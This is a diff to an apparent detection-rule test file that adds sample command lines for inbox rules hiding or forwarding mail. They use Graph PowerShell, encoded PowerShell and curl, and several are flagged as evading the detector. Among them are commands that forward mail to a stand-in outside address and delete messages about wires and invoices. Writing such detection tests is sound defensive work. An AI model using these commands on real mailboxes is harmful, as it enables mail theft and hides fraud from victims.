@@ -9,6 +9,7 @@ import {
   officeActivity,
   outlookRule,
   processRow,
+  unixProcess,
 } from './sample-records.ts';
 
 const NEW = 'New-InboxRule';
@@ -244,6 +245,56 @@ export const inboxRuleHidesMailSamples: DetectionSamples = {
         processRow(
           `powershell -en ${encodedScript("Set-InboxRule -Id 'mira\\!!' -ForwardAs keeper@collector.example")}`,
         ),
+      ],
+    },
+    {
+      name: 'Graph PowerShell, the rule as a hash table',
+      expect: 'fires',
+      severity: 'high',
+      records: [
+        processRow(
+          `powershell.exe -Command "New-MgUserMailFolderMessageRule -UserId mira -MailFolderId inbox -BodyParameter @{displayName='Tidy up';isEnabled=$true;conditions=@{subjectContains=@('wire','invoice')};actions=@{delete=$true;stopProcessingRules=$true}}"`,
+        ),
+      ],
+    },
+    {
+      name: 'curl sends the rule as JSON to Graph',
+      expect: 'evades',
+      severity: 'medium',
+      records: [
+        unixProcess(
+          `curl -s -X POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules -H 'Authorization: Bearer x' -d '{"displayName":"Team mail of the week","conditions":{"senderContains":["partner"]},"actions":{"forwardTo":[{"emailAddress":{"address":"collector@elsewhere.example"}}]}}'`,
+          'curl',
+        ),
+      ],
+    },
+    {
+      name: 'Invoke-MgGraphRequest with an escaped body, beta, in changing case',
+      expect: 'evades',
+      severity: 'high',
+      records: [
+        processRow(
+          'powershell.exe -Command "Invoke-MgGraphRequest -Method Patch -Uri https://graph.microsoft.com/beta/users/mira/mailFolders/inbox/MessageRules/AQ1 -Body \'{\\"displayName\\":\\".\\",\\"actions\\":{\\"MoveToFolder\\":\\"deleteditems\\",\\"markAsRead\\":true}}\'"',
+        ),
+      ],
+    },
+    {
+      name: 'the module for beta, encoded',
+      expect: 'evades',
+      severity: 'low',
+      records: [
+        processRow(
+          `powershell.exe -enc ${encodedScript('Update-MgBetaUserMailFolderMessageRule -UserId mira -MailFolderId inbox -MessageRuleId 1 -BodyParameter @{ actions = @{ permanentDelete = $true } }')}`,
+        ),
+      ],
+    },
+    {
+      name: 'Graph PowerShell that lists rules, and one that files newsletters',
+      expect: 'quiet',
+      records: [
+        processRow('powershell.exe -Command "Get-MgUserMailFolderMessageRule -UserId mira -MailFolderId inbox"'),
+        processRow(`powershell.exe -Command "Get-Help New-MgUserMailFolderMessageRule -Examples"`),
+        unixProcess('curl -s https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', 'curl'),
       ],
     },
   ],
